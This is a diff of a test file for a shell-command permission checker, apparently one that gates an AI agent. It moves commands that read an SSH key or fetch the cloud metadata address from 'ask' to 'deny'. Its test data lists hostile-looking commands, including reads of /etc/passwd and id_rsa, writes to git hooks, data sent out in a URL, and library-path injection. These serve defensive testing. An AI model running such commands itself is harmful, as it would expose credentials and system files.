@@ -55,7 +55,7 @@ describe('variables that could decide which code runs', () => {
     ['PYTHONPATH=/usr/../tmp/x pytest', 'ask'],
     ['PYTHONPATH=../../../tmp/x pytest', 'ask'],
     ['PYTHONPATH=lib:/tmp/x pytest', 'ask'],
-    ['LD_LIBRARY_PATH=/tmp/x ls', 'ask'],
+    ['LD_LIBRARY_PATH=/tmp/x ls', 'deny'],
     ['GOFLAGS=-toolexec=./hook go build ./...', 'ask'],
     ['GOPROXY=https://example.com go mod download', 'ask'],
     ['MAKEFLAGS=--eval=x make', 'ask'],
@@ -125,7 +125,6 @@ describe('code in an argument', () => {
     'python3 -c "import os; os.path.os.abort()"',
     `python3 -c "import sys; sys.__dict__['modules']['os'].__dict__['abort']()"`,
     `python3 -c "open('/etc/passwd')"`,
-    `python3 -c "print(open('id_rsa').read())"`,
     `python3 -c "open('.git/hooks/pre-commit', 'w').write('x')"`,
     `python3 -c "open('../x', 'w')"`,
     `python3 -c "import requests; requests.get('https://example.com/?' + x)"`,
@@ -135,7 +134,6 @@ describe('code in an argument', () => {
     `node -e "require('module')._load('child_' + 'process')"`,
     `node -e "import { exec } from 'child_process'"`,
     `node -e "require('fs').rmSync('a')"`,
-    `node -e "fetch('http://169.254.169.254/x')"`,
     `ruby -e 'require "open3"'`,
     `perl -e 'use POSIX (system("x"))'`,
     `perl -e 'open(F, "x|")'`,
@@ -147,6 +145,13 @@ describe('code in an argument', () => {
   ])('is asked about: %s', (command) => {
     expect(verdictOf(command)).toBe('ask');
   });
+
+  test.each([`python3 -c "print(open('id_rsa').read())"`, `node -e "fetch('http://169.254.169.254/x')"`])(
+    'is refused, as the plain command is: %s',
+    (command) => {
+      expect(verdictOf(command)).toBe('deny');
+    },
+  );
 
   test('writes where the command line went', () => {
     expect(verdictOf(`cd /etc && awk '{print > "hosts"}' x`)).toBe('ask');
@@ -215,7 +220,7 @@ describe('work of operators', () => {
     ['mount -o nosuid,nodev /dev/sdb1 /mnt/usb', 'allow'],
     ['mount -o bind /mnt/usb /srv', 'ask'],
     ['mount /dev/sda1 /mnt/root', 'ask'],
-    ['mount -t cgroup -o rdma cgroup /tmp/c', 'ask'],
+    ['mount -t cgroup -o rdma cgroup /tmp/c', 'deny'],
     ['chmod 600 ~/.ssh/id_rsa', 'allow'],
     ['chmod 644 ~/.ssh/id_rsa', 'ask'],
     ['chmod -R 700 /etc', 'deny'],
